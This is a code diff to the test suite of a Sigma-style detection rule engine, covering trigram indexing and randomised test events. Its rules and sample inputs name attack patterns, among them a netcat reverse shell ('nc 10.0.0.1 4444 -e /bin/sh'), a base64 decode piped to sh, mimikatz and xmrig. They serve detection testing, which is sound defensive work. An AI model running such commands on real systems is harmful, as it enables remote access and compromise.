@@ -53,6 +53,8 @@ function* events(ruleset: SigmaRuleset, n: number): Generator<SeamEvent> {
     if (!l) pool.set(src, (l = []));
     for (const [f, vals] of r.req) for (const v of vals) l.push([f, v]);
     for (const [f, vals] of r.base) for (const v of vals) for (const d of dirs) l.push([f, d + v]);
+    // Required substrings go in whole, cut short (one character less) and inside other text.
+    for (const [f, vals] of r.sub) for (const v of vals) l.push([f, v], [f, v.slice(1)], [f, `x ${v} -y`]);
   }
   const ts = templates();
   let seed = 7;
@@ -65,10 +67,14 @@ function* events(ruleset: SigmaRuleset, n: number): Generator<SeamEvent> {
     const [source, t] = ts[rnd(ts.length)]!;
     const ev = structuredClone(t);
     const lits = pool.get(source) ?? [];
+    const set = new Map<string, string>();
     for (let k = rnd(4); k > 0 && lits.length > 0; k--) {
       const [f, v] = lits[rnd(lits.length)]!;
-      // Original case varies: matching is case-insensitive unless a rule says |cased.
-      setPath(ev, f, rnd(2) === 0 ? v : v.toUpperCase());
+      // Original case varies: matching is case-insensitive unless a rule says |cased. A field picked
+      // twice holds both values, so rules that need two substrings of one field can match.
+      const x = (set.has(f) ? set.get(f)! + ' ' : '') + (rnd(2) === 0 ? v : v.toUpperCase());
+      set.set(f, x);
+      setPath(ev, f, x);
     }
     if (source === 'runtime' && ev.schema !== undefined && rnd(3) === 0) ev.kind = kinds[rnd(kinds.length)];
     yield { ...ev, '@timestamp': '2026-01-01T00:00:00Z', seam: { id: String(i), source, ingest } } as SeamEvent;
@@ -125,6 +131,74 @@ describe('basename index', () => {
     expect(ids('/usr/bin/ncat')).toEqual(['mixed']);
     expect(ids('/bin/ncat')).toEqual([]);
     expect(ids('/x/Curl')).toEqual(['slash', 'bare', 'cased']);
-    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byBase: 4, byPresence: 1 });
+    // 'cased' has no case-insensitive basename to be filed under; it sits behind a trigram of '/curl'.
+    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byBase: 4, byGram: 1, byPresence: 0 });
+  });
+});
+
+describe('trigram index', () => {
+  const rule = (id: string, sel: string, cond = 'sel'): string =>
+    `title: ${id}\nid: ${id}\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n${sel}\n  condition: ${cond}\n`;
+  const text = [
+    rule('plain', "    CommandLine|contains: 'base64 -d'"),
+    rule('multi', "    CommandLine|contains:\n      - 'wget '\n      - 'curl -s'"),
+    rule('all', "    CommandLine|contains|all:\n      - 'nc '\n      - ' -e '"),
+    rule('wild', "    CommandLine|contains: 'chmod*+x'"),
+    rule('wildone', "    CommandLine: '*sudo?-l*'"),
+    rule('cased', "    CommandLine|contains|cased: 'SECRET'"),
+    rule('starts', "    CommandLine|startswith: 'python -c'"),
+    rule('regex', "    CommandLine|re: '(?i)mimi[k]atz'"),
+    rule('short', "    CommandLine|contains: 'ab'"),
+    rule('mixed', "    CommandLine|contains:\n      - 'ab'\n      - 'xmrig'"),
+    rule('windash', "    CommandLine|windash|contains: '-enc'"),
+    rule('unicode', "    CommandLine|contains: 'ärger'"),
+    rule('kelvin', "    CommandLine|contains: 'kubectl'"),
+    rule('either', "    - CommandLine|contains: 'nmap'\n    - CommandLine|contains: 'masscan'"),
+    rule('notnull', "    CommandLine|contains: 'tar '\n  none:\n    CommandLine: null", 'sel or none'),
+    `title: kw\nid: kw\nlogsource: {product: linux, category: process_creation}\ndetection:\n  kw:\n    - 'xmrig'\n  condition: kw\n`,
+  ].join('---\n');
+  const ev = (cmdline: unknown): SeamEvent =>
+    ({ kind: 'process', process: { pid: 1, exe: '/bin/sh', cmdline }, seam: { id: 'x', source: 'runtime', ingest } }) as unknown as SeamEvent;
+  const { ruleset, diagnostics } = loadRulesFromText(text, 'grams.yml');
+  const ids = (cmdline: unknown): string[] => {
+    const got = ruleset.match(ev(cmdline)).map((m) => m.rule.id);
+    // Whatever the index does, it must agree with evaluating every rule.
+    const all = (ruleset.rules as InternalRule[]).filter((r) => r.test(ev(cmdline))).map((r) => r.id);
+    expect(got).toEqual(all);
+    return got;
+  };
+
+  it('files substring-only rules under trigrams, and leaves the rest evaluated', () => {
+    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+    // short, mixed ('ab' has no 3 characters), windash: no substring every match must contain; notnull
+    // also matches no value at all; kw has no field.
+    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byGram: 11, byPresence: 3, always: 2 });
+  });
+
+  it('never skips a rule that matches: case, wildcards, |all, lists, cased, regex, keywords', () => {
+    expect(ids('echo aGk= | BASE64 -D | sh')).toEqual(['plain']);
+    expect(ids('WGET http://x')).toEqual(['multi']);
+    expect(ids('Curl -S -o /tmp/x http://y')).toEqual(['multi']);
+    expect(ids('nc 10.0.0.1 4444 -e /bin/sh')).toEqual(['all']);
+    expect(ids('nc 10.0.0.1 4444')).toEqual([]);
+    expect(ids('CHMOD 755 +X /tmp/a')).toEqual(['wild']);
+    expect(ids('sudo -l')).toEqual(['wildone']);
+    expect(ids('SUDO\t-L now')).toEqual(['wildone']);
+    expect(ids('cat SECRET.txt')).toEqual(['cased']);
+    expect(ids('cat secret.txt')).toEqual([]);
+    expect(ids('Python -C "import os"')).toEqual(['starts']);
+    expect(ids('x python -c y')).toEqual([]);
+    expect(ids('./MimiKatz.exe')).toEqual(['regex']);
+    expect(ids('tab')).toEqual(['short', 'mixed']);
+    expect(ids('./XMRig --donate 0')).toEqual(['mixed', 'kw']);
+    expect(ids('powershell /enc AAA')).toEqual(['windash']);
+    expect(ids('ÄRGER über alles')).toEqual(['unicode']);
+    // KELVIN SIGN lowercases to an ASCII 'k'.
+    expect(ids('\u212AUBECTL get secrets')).toEqual(['kelvin']);
+    expect(ids('masscan -p1-65535')).toEqual(['either']);
+    expect(ids('tar czf x.tgz /etc')).toEqual(['notnull']);
+    expect(ids(null)).toEqual(['notnull']);
+    expect(ids(['ls', 'base64 -d'])).toEqual(['plain']);
+    expect(ids(12345)).toEqual([]);
   });
 });
